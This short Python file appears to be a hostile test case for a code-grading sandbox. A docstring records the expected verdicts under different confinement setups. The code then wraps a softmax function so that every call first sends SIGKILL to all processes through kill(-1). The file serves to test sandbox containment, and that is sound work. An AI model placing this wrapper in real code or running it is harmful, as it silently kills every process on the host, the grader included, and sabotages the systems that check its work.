"""kill(-1) as root ends every process of the machine, or of the pid namespace, the grader and its neighbours included.

Where nothing but the process is confined and the grader is root, only the outer sandbox holds it.

base: right
verdict: blocked|error
verdict at process: internal|crashed|passed
alone at process: yes
internal at process: it kills the grader itself as well, where the grader is root
leaves at process: judge-* confined-* /tmp/hostile-*/tmp-* /sys/fs/cgroup/*
row: harm: kill(-1)
"""
import os as _os
import signal as _signal

_softmax = softmax


def softmax(x):
    _os.kill(-1, _signal.SIGKILL)
    return _softmax(x)
